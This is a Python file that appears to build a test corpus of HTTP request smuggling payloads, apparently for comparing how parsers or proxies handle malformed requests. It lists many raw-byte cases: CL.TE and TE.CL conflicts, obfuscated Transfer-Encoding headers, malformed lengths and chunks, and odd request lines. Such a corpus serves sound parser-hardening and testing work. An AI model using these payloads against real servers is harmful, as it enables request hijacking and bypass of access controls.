"""The smuggling corpus: each case is a name and the bytes that one client sends; {N} makes its targets its own."""

NEXT = b"GET /smuggled-{N} HTTP/1.1\r\nHost: a\r\n\r\n"


def post(*fields, body=b"", version=b"HTTP/1.1", target=b"/outer-{N}"):
    head = [b"POST " + target + b" " + version, b"Host: a", *fields]
    return b"\r\n".join(head) + b"\r\n\r\n" + body


def size(data):
    return b"%x\r\n%s\r\n" % (len(data), data)


END = b"0\r\n\r\n"
CASES = []


def case(name, payload):
    CASES.append((name, payload + b"GET /after-{N} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"))


# -- what must work, so that the comparison means something
case("plain GET", b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\n\r\n")
case("a body that looks like a request", post(b"Content-Length: %d" % len(NEXT), body=NEXT))
case("a chunked body that looks like a request", post(b"Transfer-Encoding: chunked", body=size(NEXT) + END))

# -- Content-Length against Transfer-Encoding
for name, coding in {
        "plain": b"Transfer-Encoding: chunked", "upper": b"TRANSFER-ENCODING: CHUNKED", "space before colon": b"Transfer-Encoding : chunked",
        "tab before value": b"Transfer-Encoding:\tchunked", "vertical tab": b"Transfer-Encoding: \x0bchunked",
        "no-break space": b"Transfer-Encoding: \xa0chunked", "trailing space": b"Transfer-Encoding: chunked ", "quoted": b'Transfer-Encoding: "chunked"',
        "single quotes": b"Transfer-Encoding: 'chunked'", "x-prefix": b"Transfer-Encoding: xchunked", "identity first": b"Transfer-Encoding: identity, chunked",
        "identity last": b"Transfer-Encoding: chunked, identity", "comma": b"Transfer-Encoding: ,chunked", "comma after": b"Transfer-Encoding: chunked,",
        "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "identity line": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "cow line": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked", "folded": b"Transfer-Encoding:\r\n chunked", "folded before": b"X: y\r\n Transfer-Encoding: chunked",
        "bare LF before": b"X: y\nTransfer-Encoding: chunked", "bare CR before": b"X: y\rTransfer-Encoding: chunked", "NUL": b"Transfer-Encoding: chunked\0",
        "underscore": b"Transfer_Encoding: chunked", "parameter": b"Transfer-Encoding: chunked;a=b", "newline name": b"\nTransfer-Encoding: chunked",
        "gzip": b"Transfer-Encoding: gzip, chunked", "empty": b"Transfer-Encoding:", "deflate": b"Transfer-Encoding: deflate"}.items():
    both = END + NEXT
    case(f"CL.TE, {name}", post(b"Content-Length: %d" % len(both), coding, body=both))
    case(f"TE.CL, {name}", post(coding, b"Content-Length: 4", body=size(NEXT) + END))
    case(f"TE alone, {name}", post(coding, body=size(b"x") + END + NEXT))

# -- lengths
for name, fields in {
        "two": [b"Content-Length: 0", b"Content-Length: %d" % len(NEXT)], "two, reversed": [b"Content-Length: %d" % len(NEXT), b"Content-Length: 0"],
        "list": [b"Content-Length: 0, %d" % len(NEXT)], "equal list": [b"Content-Length: %d, %d" % (len(NEXT), len(NEXT))], "plus": [b"Content-Length: +%d" % len(NEXT)],
        "minus": [b"Content-Length: -1"], "hex": [b"Content-Length: 0x%x" % len(NEXT)], "octal": [b"Content-Length: 0%o" % len(NEXT)], "space inside": [b"Content-Length: 1 0"],
        "underscore": [b"Content_Length: %d" % len(NEXT)], "space before colon": [b"Content-Length : %d" % len(NEXT)], "empty": [b"Content-Length:"],
        "overflow": [b"Content-Length: 18446744073709551616"], "decimal": [b"Content-Length: %d.0" % len(NEXT)], "folded": [b"Content-Length:\r\n %d" % len(NEXT)],
        "form feed": [b"Content-Length: \x0c%d" % len(NEXT)]}.items():
    case(f"lengths, {name}", post(*fields, body=NEXT))

# -- chunks
for name, body in {
        "size overflows": b"10000000000000000\r\n" + NEXT, "32 bits": b"100000005\r\nhello\r\n" + END, "negative": b"-1\r\nx\r\n" + END, "0x": b"0x5\r\nhello\r\n" + END,
        "underscore": b"0_5\r\nhello\r\n" + END, "plus": b"+5\r\nhello\r\n" + END, "space": b"5 \r\nhello\r\n" + END, "leading space": b" 5\r\nhello\r\n" + END,
        "LF size": b"5\nhello\r\n" + END, "CR size": b"5\rXhello\r\n" + END, "data too long": b"5\r\nhello!\r\n" + END, "no CRLF": b"5\r\nhello" + END,
        "extension LF": b"5;\nx\r\nhello\r\n" + END, "extension CR": b"5;a\rb\r\nhello\r\n" + END, "extension quotes": b'5;a="\r\n"\r\nhello\r\n' + END, "extension NUL": b"5;\0\r\nhello\r\n" + END,
        "last without CRLF": b"0\r\n" + NEXT, "last LF": b"0\n\n" + NEXT, "last CRLF LF": b"0\r\n\n" + NEXT, "trailer is a request line": b"0\r\nGET /smuggled-{N} HTTP/1.1\r\n\r\n",
        "trailer CL": b"0\r\nContent-Length: 5\r\n\r\n", "trailer TE": b"0\r\nTransfer-Encoding: chunked\r\n\r\n", "trailer host": b"0\r\nHost: b\r\n\r\n",
        "zeros": b"00000\r\n\r\n" + NEXT, "empty size": b"\r\nhello\r\n" + END, "semicolon only": b";\r\nhello\r\n" + END}.items():
    case(f"chunks, {name}", post(b"Transfer-Encoding: chunked", body=body))

# -- lines, versions, targets, expectations
for name, payload in {
        "HTTP/1.0 chunked": post(b"Transfer-Encoding: chunked", b"Connection: keep-alive", body=END + NEXT, version=b"HTTP/1.0"),
        "HTTP/0.9": b"GET /outer-{N}\r\n\r\n" + NEXT, "HTTP/1.2": b"GET /outer-{N} HTTP/1.2\r\nHost: a\r\n\r\n" + NEXT, "HTTP/2.0": b"GET /outer-{N} HTTP/2.0\r\nHost: a\r\n\r\n" + NEXT,
        "GET with body": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
        "HEAD with body": b"HEAD /outer-{N} HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
        "DELETE with body": b"DELETE /outer-{N} HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
        "OPTIONS with body": b"OPTIONS /outer-{N} HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
        "CONNECT": b"CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n" + NEXT, "Upgrade h2c": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + NEXT,
        "Upgrade websocket": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + NEXT,
        "Expect": post(b"Expect: 100-continue", b"Content-Length: %d" % len(NEXT), body=NEXT), "Expect odd": post(b"Expect: 100-continue, x", b"Content-Length: %d" % len(NEXT), body=NEXT),
        "Connection drops CL": post(b"Connection: Content-Length", b"Content-Length: %d" % len(NEXT), body=NEXT),
        "Connection drops TE": post(b"Connection: Transfer-Encoding", b"Transfer-Encoding: chunked", body=size(NEXT) + END),
        "CRLF in target": b"GET /outer-{N}%0d%0aHost:%20b HTTP/1.1\r\nHost: a\r\n\r\n", "space in target": b"GET /outer-{N} /smuggled-{N} HTTP/1.1\r\nHost: a\r\n\r\n",
        "two hosts": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", "absolute form": b"GET http://b/outer-{N} HTTP/1.1\r\nHost: a\r\n\r\n",
        "bare LF everywhere": b"GET /outer-{N} HTTP/1.1\nHost: a\n\n" + NEXT, "LF CR": b"GET /outer-{N} HTTP/1.1\n\rHost: a\r\n\r\n", "CR CR LF": b"GET /outer-{N} HTTP/1.1\r\r\nHost: a\r\n\r\n" + NEXT,
        "leading CRLF": b"\r\n\r\n" + NEXT.replace(b"smuggled", b"outer"), "leading LF": b"\n\n" + NEXT.replace(b"smuggled", b"outer"), "leading space": b" " + NEXT,
        "space in first field": b"GET /outer-{N} HTTP/1.1\r\n Host: b\r\nHost: a\r\n\r\n", "NUL in value": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nX: \0\r\n\r\n" + NEXT,
        "colon only": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\n: x\r\n\r\n" + NEXT, "no colon": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nrubbish\r\n\r\n" + NEXT,
        "many fields": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 120 + b"\r\n" + NEXT, "long field": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nX: " + b"y" * 7000 + b"\r\n\r\n",
        "range with body": b"GET /outer-{N} HTTP/1.1\r\nHost: a\r\nRange: bytes=0-\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT}.items():
    case(name, payload)
